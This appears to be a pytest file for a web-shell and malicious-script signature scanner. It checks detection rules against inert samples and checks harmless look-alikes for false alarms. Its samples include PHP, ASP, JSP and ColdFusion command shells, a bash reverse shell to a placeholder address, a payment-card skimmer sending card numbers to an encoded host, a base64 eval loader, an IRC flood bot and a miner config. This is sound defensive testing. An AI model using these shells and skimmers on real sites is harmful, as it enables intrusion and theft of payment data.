"""The rules on inert samples: each fits what its family does, and not what only looks like it."""

from pathlib import Path

import pytest

from scanners.signatures import SignatureError, Signatures
from sentry.domain.finding import FindingClass

SIGNATURES = Signatures()

CONTROL_PAGE = b"""<?php
$c = $_POST['a'];
echo php_uname() . getcwd() . ini_get('safe_mode') . $_SERVER['SERVER_SOFTWARE'] . disk_free_space('/');
if ($c == 'rm') { unlink($_POST['f']); } elseif ($c == 'ls') { foreach (scandir('.') as $f) { echo fileperms($f); } }
function run($x) { return shell_exec($x); }
?><form method=post><input name=a></form>"""

FITS = {
    "php_remote_control_page": CONTROL_PAGE,
    "php_command_page": (
        b"<?php chdir($_GET['d']); $o = popen($line, 'r'); $w = $_POST['cmd']; ?><form><input name=cmd></form>"
    ),
    "php_mass_mailer": (
        b"<?php set_time_limit(0); $l = explode(\"\\n\", $_POST['emaillist']);\n"
        b"foreach ($l as $to) { mail($to, $_POST['subject'], $_POST['m'], \"Reply-To: $from_name\"); flush(); }\n"
        b"?><textarea name=emaillist></textarea>"
    ),
    "php_database_page": b"<?php mysql_connect($_POST['host'], $u, $p); mysql_query($q); ?><form></form>",
    "asp_runs_what_it_is_sent": b'<%eval request("x")%>',
    "asp_command_page": (
        b'<% Set s = Server.CreateObject("WSCRIPT.SHELL")\nSet o = s.Exec("cmd /c " & Request.Form("c")) %>'
    ),
    "asp_loads_hidden_code": (
        b"<%@ Page Language='C#' %><% System.Reflection.Assembly.Load(Request.BinaryRead(9)).CreateInstance('U'); %>"
    ),
    "asp_file_page": (
        b'<% Set f = CreateObject("Scripting.FileSystemObject")\nFor Each d In f.Drives\nNext\n'
        b'f.DeleteFile(Request("p"))\nResponse.Write Request.ServerVariables("SERVER_SOFTWARE") %>'
    ),
    "asp_encoded": b"<%@ Language = VBScript.Encode %><%#@~^DgAAAA==inert%>",
    "jsp_command_page": b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
    "jsp_loads_hidden_code": (
        b"<%! class U extends ClassLoader { } %><% byte[] b = "
        b'Base64.getDecoder().decode(request.getParameter("c")); %>'
    ),
    "jsp_file_page": b'<% String p = request.getParameter("p"); new FileOutputStream(path + p).write(b); %>',
    "coldfusion_command_page": (
        b'<cfparam name="form.c"><cfexecute name="cmd.exe" arguments="/c #form.c#"></cfexecute>'
    ),
    "program_command_page": (
        b"#!/usr/bin/perl\nprint \"Content-type: text/html\\n\\n\";\n$c = $ENV{'QUERY_STRING'};\nprint `$c 2>&1`;\n"
    ),
    "program_back_door": b"#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
    "program_flood": (
        b"#!/usr/bin/perl\nuse IO::Socket;\nprint $s 'NICK a'; print $s 'JOIN #b'; if (/PRIVMSG/) { &udpflood; }\n"
    ),
    "program_runs_hidden_code": b"#!/usr/bin/perl\nuse MIME::Base64;\neval(decode_base64('aW5lcnQ='));\n",
    "miner_of_coins": b'{"algo": "rx/0", "url": "stratum+tcp://pool.example.com:3333", "pass": "x"}',
    "skimmer_of_payment_data": (
        b"document.addEventListener('submit', function () { var n = document.querySelector('[name=cc_number]').value;"
        b"new Image().src = atob('aHR0cHM6Ly9leGFtcGxlLmNvbS8=') + n; });"
    ),
    "script_that_loads_a_hidden_script": (
        b"var s = document.createElement('script'); s.src = atob('aHR0cHM6Ly9leGFtcGxlLmNvbS94Lmpz');"
    ),
    "links_out_of_sight": (
        b'<div style="position:absolute;left:-9999px">'
        + b'<a href="https://pills.example/">buy now</a> ' * 4
        + b"</div>"
    ),
}


@pytest.mark.parametrize(("rule", "content"), FITS.items(), ids=FITS)
def test_rule_fits_what_its_family_does(rule: str, content: bytes) -> None:
    """And says what that means, whose rule it is and where it was seen."""
    found = {match.rule: match for match in SIGNATURES.matches(content)}

    assert rule in found
    assert found[rule].author
    assert found[rule].meaning
    assert found[rule].line >= 1


HARMLESS = {
    "a page of asp": b'<% Response.Write Server.HTMLEncode(Request("name")) %>',
    "an upload of asp.net": b"<% if (FileUpload1.HasFile) FileUpload1.SaveAs(Request.Form['name']); %>",
    "a page of jsp": b'<% String n = request.getParameter("n"); out.print(n); %>',
    "a program for the shell": b'#!/bin/sh\neval "$1"\nexec sh -c "$2"\n',
    "a form by cgi": (
        b'#!/usr/bin/perl\nuse CGI;\nprint "Content-type: text/html\\n\\n";\nmy $n = '
        b"param('n');\nprint escape($n);\n"
    ),
    "a client of a chat": (
        b"#!/usr/bin/python\nimport socket\ns = socket.socket()\ns.send('NICK a')\ns.send('JOIN #b')\n"
    ),
    "a contact form": b"<?php mail($to, $_POST['subject'], $_POST['text'], 'Reply-To: x'); ?><textarea></textarea>",
    "a system information class": b"<?php\nclass Info {\n" + CONTROL_PAGE.removeprefix(b"<?php") + b"}",
    "a payment form's own script": (
        b"form.addEventListener('submit', function () { fetch('/pay', {body: form.cc_number.value}); });"
    ),
    "a loader of a plain address": (
        b"var s = document.createElement('script'); s.src = 'https://www.example.com/a.js';"
    ),
    "a link for screen readers": b'<a style="left:-9999px" href="#content">Skip to content</a>',
}


@pytest.mark.parametrize("content", HARMLESS.values(), ids=HARMLESS)
def test_no_rule_fits_what_is_harmless(content: bytes) -> None:
    """False alarms are what people leave their scanners for."""
    assert SIGNATURES.matches(content) == []


def test_match_names_the_line() -> None:
    """A reader opens the file where it is."""
    (match,) = SIGNATURES.matches(b"// one\n// two\neval(atob('YQ=='));\n")

    assert match.verdict is FindingClass.SUSPICIOUS
    assert match.line == 3


def test_rules_that_cannot_be_compiled_are_named(tmp_path: Path) -> None:
    """Where they are, and what the compiler says."""
    (tmp_path / "broken.yar").write_text("rule a { condition: b }")

    with pytest.raises(SignatureError, match=r"broken\.yar.*undefined identifier"):
        Signatures(tmp_path)
